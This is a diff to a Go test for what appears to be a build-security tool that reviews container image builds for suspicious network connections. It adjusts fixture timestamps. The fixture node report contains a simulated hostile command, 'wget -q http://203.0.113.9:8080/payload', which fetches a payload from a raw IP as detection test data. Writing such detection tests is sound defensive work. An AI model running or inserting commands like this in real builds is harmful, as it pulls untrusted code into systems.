@@ -152,9 +152,12 @@ func TestReviewUI(t *testing.T) {
 	e := startEnv(t, ctx, dir)
 	cp, reg := e.cp, e.reg
 
-	// One image built on a worker whose build talked to a raw IP, one
-	// built seconds ago.
-	built, err := testregistry.MakeImage(testregistry.Image{Created: time.Now().Add(-48 * time.Hour)})
+	// One image built on a worker an hour ago, whose build talked to a raw
+	// IP, one built seconds ago. The first one's created time is inside the
+	// build the node reports, as a real build's is: otherwise it is also
+	// inconsistent-created-time.
+	start := time.Now().Add(-time.Hour).UTC().Truncate(time.Second)
+	built, err := testregistry.MakeImage(testregistry.Image{Created: start.Add(30 * time.Second)})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -222,7 +225,6 @@ func TestReviewUI(t *testing.T) {
 	pool := x509.NewCertPool()
 	pool.AppendCertsFromPEM(caPEM)
 	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
-	start := time.Now().Add(-time.Hour).UTC()
 	report := fmt.Sprintf(`{"apiVersion":"buildguard.dev/v1alpha1","kind":"NodeReport","node":"worker-3","sensor":"ebpf",
 "builds":[{"eventID":"build-api","tool":"docker","imageID":%q,"started":%q,"finished":%q}],
 "connections":[{"eventID":"conn-api","time":%q,"process":"wget","pid":4242,"cmdline":"wget -q http://203.0.113.9:8080/payload","destIP":"203.0.113.9","destPort":8080}]}`,
